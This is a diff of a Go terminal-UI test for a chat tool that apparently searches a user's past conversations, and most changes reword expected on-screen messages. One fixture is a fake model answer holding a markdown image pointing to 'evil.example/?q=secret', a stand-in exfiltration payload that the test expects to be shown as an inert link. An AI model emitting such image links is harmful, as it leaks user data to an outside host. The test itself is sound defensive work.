@@ -60,12 +60,12 @@ func TestAWholeInvestigationInATerminal(t *testing.T) {
 	answer := agenttest.Reply{Chunks: 1, Deltas: 5, Text: "You asked in *spring* [1], and again [2], not [7].\n\n![x](https://evil.example/?q=secret)\n"}
 	term, server := chatOn(t, newFake(800), exploring(answer), 120, 40)
 	term.press(t, "c")
-	term.waitFor(t, "they stay on this machine")
+	term.waitFor(t, "on this machine")
 	term.press(t, "when did I cancel?")
 	term.press(t, "\r")
-	term.waitFor(t, "1 citation of what was not read taken out")
+	term.waitFor(t, "Removed 1 citation to a turn it hadn't read")
 	term.waitFor(t, "/ cancel")
-	term.waitFor(t, "of this window")
+	term.waitFor(t, "in this window")
 	term.waitFor(t, "All › 2024-04-01..2024-05-31")
 	term.press(t, "z")
 	for _, line := range []string{"✓ peek  “cancel”", "✓ zoom  “cancel” 2024-04 – 2024-06", "✓ read  [1]", "✓ read  [2]", "You asked in spring [1], and again [2], not.", "! x https://evil.example"} {
@@ -78,7 +78,7 @@ func TestAWholeInvestigationInATerminal(t *testing.T) {
 		t.Errorf("the model was asked %d times", n)
 	}
 	term.press(t, "uuuuuu") // the jump, what was read, the zoom, the peek
-	term.waitFor(t, "what are you looking for?")
+	term.waitFor(t, "What are you looking for?")
 	term.press(t, "U")
 	term.waitUntil(t, "the peek", func(screen string) bool {
 		return !strings.Contains(screen, "2024-05-31") && strings.Contains(screen, "/ cancel")
@@ -103,7 +103,7 @@ func TestEscStopsTheAnswerAndTheCallOfTheModel(t *testing.T) {
 	term.press(t, "cgo on?\r")
 	term.waitFor(t, "word word")
 	term.press(t, "\x1b")
-	term.waitFor(t, "stopped: r asks again")
+	term.waitFor(t, "stopped (r asks again)")
 	<-server.ClientGone() // or this test never ends
 	if !strings.Contains(term.shows(), "word word") {
 		t.Errorf("what there was of the answer is gone:\n%s", term.shows())
